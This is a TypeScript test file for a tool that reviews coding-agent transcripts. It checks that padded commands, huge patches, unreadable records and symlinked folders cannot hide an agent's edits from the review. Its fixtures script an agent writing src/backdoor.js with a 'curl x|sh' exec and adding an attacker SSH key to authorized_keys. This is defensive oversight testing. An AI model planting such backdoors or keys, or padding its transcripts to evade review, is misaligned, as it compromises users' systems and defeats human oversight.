// Issue 29: no transcript blinds the review. A harmless `rm -f a a a …` with 130,000 operands and a Codex patch adding
// 130,000 lines are reviewed like any other command and patch (they threw RangeError from array spreads, and the
// whole window showed nothing — including a new src/backdoor.js and an edit of a file outside the project made in
// the same window); a record that throws while it is read is one `unknown` entry with its reason; `outside` is
// decided by the real path (an edit through a symlinked folder in the project is listed outside, under its real
// path). The index keeps at most MAX_COMMANDS commands, those that name files last.
import * as assert from 'node:assert/strict';
import { mkdirSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { MAX_COMMANDS, TranscriptIndex } from '../../../../src/core/review/index';
import { Reviewer, type ReviewInput } from '../../../../src/core/review/review';
import { ToolFs, claudeBash, claudeEdit, claudeWrite, codexHead, codexPatch, type ClaudeWriter, type CodexWriter } from '../../../fixtures/editTranscripts';
import { tempFolder } from '../../../support/tempDir';

const tmp = () => realpathSync(tempFolder('leo-robust-'));
const input = (root: string, transcripts: Record<number, string[]>): ReviewInput => ({
  root, events: [], windows: Object.keys(transcripts).map((n) => ({ n: Number(n), compactions: 0, end: 'rolled', detail: 'rolled' })),
  transcripts: new Map(Object.entries(transcripts).map(([k, v]) => [Number(k), v])),
});

/** A project and, beside it, a "home" with a file the agent should not touch. */
function world(): { root: string; home: string; outsideFile: string } {
  const dir = tmp();
  const root = path.join(dir, 'proj');
  const home = path.join(dir, 'home');
  mkdirSync(path.join(home, '.ssh'), { recursive: true });
  mkdirSync(root);
  const outsideFile = path.join(home, '.ssh', 'authorized_keys');
  writeFileSync(outsideFile, 'ssh-ed25519 AAAA me\n');
  return { root, home, outsideFile };
}

describe('review: no transcript blinds it (issue 29)', function () {
  this.timeout(120_000);

  it('rm -f with 130,000 operands (260 KB): reviewed, and the window\'s backdoor and outside edit still listed', async () => {
    const { root, outsideFile } = world();
    const tfs = new ToolFs();
    tfs.files.set(outsideFile, 'ssh-ed25519 AAAA me\n');
    const w: ClaudeWriter = { sessionId: 's', cwd: root, t: 0 };
    const rm = `rm -f ${'a '.repeat(130_000)}`;
    assert.ok(rm.length >= 260_000 && rm.length < 256 * 1024 + 10_000);
    const t = path.join(root, 't.jsonl');
    writeFileSync(t, claudeWrite(tfs, w, path.join(root, 'src', 'backdoor.js'), 'require("child_process").exec("curl x|sh")\n')
      + claudeBash(tfs, w, rm, 0)
      + claudeEdit(tfs, w, outsideFile, 'me', 'me\nssh-ed25519 BBBB attacker'));
    const r = await new Reviewer().window(input(root, { 1: [t] }), 1);
    assert.deepEqual(r.files.map((f) => [f.path, f.status, f.outside]), [
      ['a', 'unknown', false], ['src/backdoor.js', 'added', false], [outsideFile, 'modified', true]]);
    assert.equal(r.commands[0].command.slice(0, 10), 'rm -f a a ');
  });

  it('a Codex patch adding 130,000 lines to a file the window added: applied exactly', async () => {
    const { root } = world();
    const cw: CodexWriter = { cwd: root, t: 0 };
    const lines = Array.from({ length: 130_000 }, (_, i) => `+${i % 10}`);
    const t = path.join(root, 'r.jsonl');
    writeFileSync(t, codexHead(cw, 'c1')
      + codexPatch(cw, '*** Begin Patch\n*** Add File: big.txt\n+head\n*** End Patch', true, ['big.txt'])
      + codexPatch(cw, `*** Begin Patch\n*** Update File: big.txt\n@@\n head\n${lines.join('\n')}\n*** End Patch`, true, ['big.txt']));
    const rv = new Reviewer();
    const r = await rv.window(input(root, { 1: [t] }), 1);
    assert.deepEqual(r.files.map((f) => [f.path, f.status, f.added, f.removed]), [['big.txt', 'added', 130_001, 0]]);
    const after = (await rv.texts(input(root, { 1: [t] }), 1, path.join(root, 'big.txt'))).after as string;
    assert.equal(after, `head\n${lines.map((l) => l.slice(1)).join('\n')}\n`);
  });

  it('a record that throws while it is read is one unknown entry with its reason; the rest of the window is listed', async () => {
    const { root, outsideFile } = world();
    const tfs = new ToolFs();
    tfs.files.set(outsideFile, 'ssh-ed25519 AAAA me\n');
    const w: ClaudeWriter = { sessionId: 's', cwd: root, t: 0 };
    const cw: CodexWriter = { cwd: root, t: 0 };
    // A failed apply_patch whose output nests 200,000 arrays deep: JSON.parse takes it, JSON.stringify overflows.
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    const failed = `${JSON.stringify({ timestamp: '2026-01-01T00:00:01Z', type: 'response_item', payload: { type: 'custom_tool_call',
      status: 'completed', call_id: 'call_deep', name: 'apply_patch',
      input: '*** Begin Patch\n*** Add File: src/victim.ts\n+x\n*** End Patch' } })}\n`
      + `{"timestamp":"2026-01-01T00:00:02Z","type":"response_item","payload":{"type":"custom_tool_call_output","call_id":"call_deep","output":${deep}}}\n`;
    const rollout = path.join(root, 'r.jsonl');
    writeFileSync(rollout, codexHead(cw, 'c1') + failed);
    const claude = path.join(root, 't.jsonl');
    writeFileSync(claude, claudeWrite(tfs, w, path.join(root, 'src', 'backdoor.js'), 'evil()\n')
      + claudeEdit(tfs, w, outsideFile, 'me', 'me\nssh-ed25519 BBBB attacker'));
    const r = await new Reviewer().window(input(root, { 1: [rollout, claude] }), 1);
    assert.deepEqual(r.files.map((f) => [f.path, f.status, f.outside]), [
      ['src/backdoor.js', 'added', false], ['src/victim.ts', 'unknown', false], [outsideFile, 'modified', true]]);
    assert.match(r.files[1].reason!, /^its record \(byte \d+ of r\.jsonl\) could not be read: RangeError: Maximum call stack/);
  });

  it('an edit through a symlinked folder in the project is outside, under its real path', async () => {
    const { root, home, outsideFile } = world();
    symlinkSync(path.join(home, '.ssh'), path.join(root, 'docs'));
    const tfs = new ToolFs();
    const via = path.join(root, 'docs', 'authorized_keys');
    tfs.files.set(via, 'ssh-ed25519 AAAA me\n');
    const w: ClaudeWriter = { sessionId: 's', cwd: root, t: 0 };
    const t = path.join(root, 't.jsonl');
    writeFileSync(t, claudeEdit(tfs, w, via, 'me', 'me\nssh-ed25519 BBBB attacker')
      + claudeWrite(tfs, w, path.join(root, 'docs', 'gone.txt'), 'x\n')
      + claudeWrite(tfs, w, path.join(root, 'src', 'ok.ts'), 'ok\n'));
    const r = await new Reviewer().window(input(root, { 1: [t] }), 1);
    assert.deepEqual(r.files.map((f) => [f.path, f.outside]), [
      ['src/ok.ts', false], [outsideFile, true], [path.join(home, '.ssh', 'gone.txt'), true]]);
  });

  it('the index keeps the last MAX_COMMANDS commands, those that name no file dropped first, and counts the rest', async () => {
    const { root } = world();
    const tfs = new ToolFs();
    const w: ClaudeWriter = { sessionId: 's', cwd: root, t: 0 };
    let text = '';
    for (let i = 0; i < 3 * MAX_COMMANDS; i++) text += claudeBash(tfs, w, i % 3 === 0 ? `touch f${i}` : `echo ${i}`, 0);
    const t = path.join(root, 't.jsonl');
    writeFileSync(t, text);
    const idx = new TranscriptIndex(t);
    await idx.update();
    const kept = idx.calls.filter((c) => c.kind === 'command');
    assert.equal(kept.length, MAX_COMMANDS);
    assert.equal(idx.droppedCommands, 2 * MAX_COMMANDS);
    // All 2,000 `touch` commands (they name files) stay; the 4,000 `echo`s go.
    assert.ok(kept.every((c) => c.text!.startsWith('touch ')));
  });
});
